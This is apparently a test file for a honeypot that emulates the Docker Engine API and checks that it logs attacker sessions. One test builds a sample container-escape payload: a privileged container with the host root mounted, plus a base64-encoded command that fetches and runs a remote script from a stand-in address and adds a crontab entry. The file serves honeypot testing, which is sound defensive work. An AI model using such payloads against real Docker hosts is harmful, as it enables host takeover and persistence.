import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Memory } from '../memory.ts';
import { bodyOf, meet } from '../play.ts';
import { docker } from './docker.ts';

const folder = join(import.meta.dirname, '../../../test/transcripts/docker');
const lines = readFileSync(join(folder, 'engine.txt'), 'utf8').split('\n');
const recorded = lines.flatMap((line, i) =>
  line.startsWith('> ')
    ? [[JSON.parse(line.slice(2)) as string, JSON.parse(lines[i + 1]!.slice(2)) as string]]
    : [],
);

function normal(answer: string): string {
  return answer
    .replace(/Date: [^\r]*/, 'Date: *')
    .replace(/\b[0-9a-f]{64}\b/g, '*64*')
    .replace(/"KernelVersion":"[^"]*"/g, '"KernelVersion":"*"')
    .replace(/"(Arch)":"[^"]*"/g, '"$1":"amd64"');
}

const asJson = 'Content-Type: application/json\r\n';
function request(method: string, target: string, body?: unknown, more = ''): string {
  const text = body === undefined ? '' : JSON.stringify(body);
  return `${method} ${target} HTTP/1.1\r\nHost: x\r\n${more}${text ? asJson : ''}Content-Length: ${text.length}\r\n\r\n${text}`;
}

describe('the recorded Engine', () => {
  it('gives the same answers, byte by byte, to the same words', async () => {
    const memory = new Memory();
    const options = { version: '20.10.24+dfsg1', bare: true };
    const setup = meet(docker, { memory, options });
    await setup.say(request('POST', '/images/create?fromImage=alpine&tag=latest'));
    await setup.leave();
    const differing: unknown[] = [];
    for (const [say, wanted] of recorded) {
      const talk = meet(docker, { memory, options });
      const got = normal((await talk.say(say!)) + (await talk.leave()));
      expect(talk.faults).toEqual([]);
      // Its length and arch differ with the persona.
      const measured = (text: string) =>
        /"KernelVersion"/.test(text) ? text.replace(/Content-Length: \d+/, '') : text;
      if (measured(got) !== measured(wanted!)) differing.push([say, measured(got), measured(wanted!)]);
    }
    expect(differing).toEqual([]);
  });
});

async function attack(says: string[], memory = new Memory()) {
  const talk = meet(docker, { memory });
  const answers: string[] = [];
  for (const say of says) answers.push(await talk.say(say));
  await talk.leave();
  expect(talk.faults).toEqual([]);
  const bodies = talk.events
    .map(bodyOf)
    .filter(({ kind }) => !['connect', 'close', 'request'].includes(kind));
  return { answers, bodies, talk, memory };
}

const script = 'curl -s http://192.0.2.9/init.sh | sh; echo "* * * * * root true" >> /hostroot/etc/crontab';
const job = {
  Image: 'alpine',
  Cmd: ['sh', '-c', `echo ${Buffer.from(script).toString('base64')}|base64 -d|sh`],
  HostConfig: { Binds: ['/:/hostroot'], Privileged: true },
};

describe('D1: a container that takes the host', () => {
  it('is pulled, created, started and told of', async () => {
    const { answers, bodies, memory } = await attack([
      request('GET', '/_ping'),
      request('GET', '/v1.24/containers/json'),
      request('POST', '/v1.24/containers/create', job),
      request('POST', '/images/create?fromImage=alpine&tag=latest'),
      request('POST', '/v1.24/containers/create?name=job', job),
      request('POST', '/v1.24/containers/job/start'),
      request('POST', '/v1.24/containers/job/wait'),
    ]);
    expect(answers.map((one) => one.slice(9, 12))).toEqual(['200', '200', '404', '200', '201', '204', '200']);
    expect(answers[3]).toContain('"status":"Status: Downloaded newer image for alpine:latest"}\r\n');
    expect(bodies).toContainEqual({
      kind: 'download',
      url: 'docker://docker.io/library/alpine:latest',
      tool: 'docker',
      name: 'alpine:latest',
    });
    expect(bodies).toContainEqual({
      kind: 'command',
      input: expect.stringContaining('base64 -d'),
      ok: true,
      detail: { how: 'create', image: 'alpine', privileged: true, binds: '/:/hostroot' },
    });
    expect(bodies).toContainEqual(
      expect.objectContaining({ kind: 'download', url: 'http://192.0.2.9/init.sh' }),
    );
    const next = await attack([request('GET', '/containers/json?all=1')], memory);
    expect(next.answers[0]).toContain('"Names":["/job"]');
  });

  it('streams what an attached container prints, and ends with it', async () => {
    const memory = new Memory();
    const create = { Image: 'alpine', Cmd: ['sh', '-c', 'echo hi; ls /nope'] };
    await attack(
      [
        request('POST', '/images/create?fromImage=alpine'),
        request('POST', '/containers/create?name=job', create),
      ],
      memory,
    );
    const attached = meet(docker, { memory });
    const upgrade = 'Connection: Upgrade\r\nUpgrade: tcp\r\n';
    const head = await attached.say(
      request('POST', '/containers/job/attach?stream=1&stdout=1&stderr=1', undefined, upgrade),
    );
    expect(head).toBe(
      'HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n',
    );
    const waiting = meet(docker, { memory });
    expect(await waiting.say(request('POST', '/containers/job/wait?condition=next-exit'))).toMatch(
      /chunked\r\n\r\n$/,
    );
    await attack([request('POST', '/containers/job/start')], memory);
    expect(await attached.leave()).toBe(
      '\x01\0\0\0\0\0\0\x03hi\n\x02\0\0\0\0\0\0\x25ls: /nope: No such file or directory\n',
    );
    expect(await waiting.leave()).toBe('1e\r\n{"Error":null,"StatusCode":1}\n\r\n0\r\n\r\n');
  });

  it('runs commands in the container of the owner, and a shell for who types', async () => {
    const memory = new Memory();
    const { answers } = await attack([request('GET', '/containers/json')], memory);
    const id = /"Id":"([0-9a-f]{64})"/.exec(answers[0]!)![1];
    const exec = async (body: Record<string, unknown>) => {
      const made = await attack(
        [request('POST', `/containers/${id}/exec`, { AttachStdout: true, ...body })],
        memory,
      );
      return /"Id":"([0-9a-f]{64})"/.exec(made.answers[0]!)![1];
    };
    const once = await attack([request('POST', `/exec/${await exec({ Cmd: ['id'] })}/start`, {})], memory);
    expect(once.answers[0]).toMatch(/^HTTP\/1\.1 200 OK\r\n[\s\S]*\r\n\r\n\x01\0\0\0\0\0\0.uid=0\(root\)/);
    const typed = await attack(
      [
        request('POST', `/exec/${await exec({ Cmd: ['sh'], Tty: true, AttachStdin: true })}/start`, {
          Tty: true,
        }),
        'uname -s\r',
        'exit\r',
      ],
      memory,
    );
    expect(typed.answers[1]).toContain('Linux\r\n');
    expect(typed.bodies).toContainEqual(expect.objectContaining({ kind: 'command', input: 'uname -s' }));
  });

  it('keeps what is put into a container, and differs from sensor to sensor', async () => {
    const memory = new Memory();
    const { answers } = await attack([request('GET', '/containers/json')], memory);
    const id = /"Id":"([0-9a-f]{64})"/.exec(answers[0]!)![1];
    const put = await attack([request('PUT', `/containers/${id}/archive?path=/tmp`, { a: 1 })], memory);
    expect(put.bodies).toMatchObject([{ kind: 'upload', size: 7, name: '/tmp' }]);
    const info = async (seed: string) => {
      const talk = meet(docker, { seed });
      return talk.say(request('GET', '/info'));
    };
    const own = (text: string) => /"ID":"([^"]*)"/.exec(text)![1];
    expect(own(await info('one'))).not.toBe(own(await info('two')));
  });
});
